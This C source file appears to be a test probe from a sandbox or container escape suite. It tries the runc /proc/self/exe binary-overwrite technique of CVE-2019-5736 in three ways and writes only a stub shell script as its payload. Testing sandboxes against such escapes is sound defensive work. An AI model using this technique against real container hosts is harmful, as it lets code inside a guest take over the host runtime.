/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The program that made the cage is replaced by the caged one, so that its next user runs what the guest wrote (CVE-2019-5736, runc: by
 * /proc/self/exe). ARG: the program that started us, for where /proc does not tell.
 */
#include "attack.h"

static int replace(const struct attack *a)
{
	char link[64], path[4096], mine[4200];
	ssize_t n;
	int r;

	(void)snprintf(link, sizeof(link), "/proc/%d/exe", (int)a->parent);
	n = readlink(link, path, sizeof(path) - 1);
	(void)snprintf(path + (n > 0 ? n : 0), sizeof(path) - (size_t)(n > 0 ? n : 0), "%s", n > 0 ? "" : a->more[0]);
	(void)snprintf(mine, sizeof(mine), "%s.new", path);
	r = write_file(mine, "#!/bin/sh\n");
	return r != 0 ? r : outcome(rename(mine, path));
}

static int open_it(const struct attack *a)
{
	char link[64];
	int fd;

	(void)snprintf(link, sizeof(link), "/proc/%d/exe", (int)a->parent);
	fd = open(link, O_RDONLY | O_CLOEXEC);
	return outcome(fd);
}

/* What we are, as the kernel sees it: with gaps filled this would be the agent, which every process runs. */
static int own(const struct attack *a)
{
	char path[4096];
	ssize_t n = readlink("/proc/self/exe", path, sizeof(path) - 1);
	char mine[4200];
	int r;

	(void)a;
	if (n < 0)
		return errno;
	path[n] = 0;
	(void)snprintf(mine, sizeof(mine), "%s.new", path);
	r = write_file(mine, "#!/bin/sh\n");
	return r != 0 ? r : outcome(unlink(mine));
}

static const struct way ways[] = {
	{ "open", open_it },
	{ "beside_own", own },
	{ "replace", replace },
};

ATTACK_MAIN(ways)
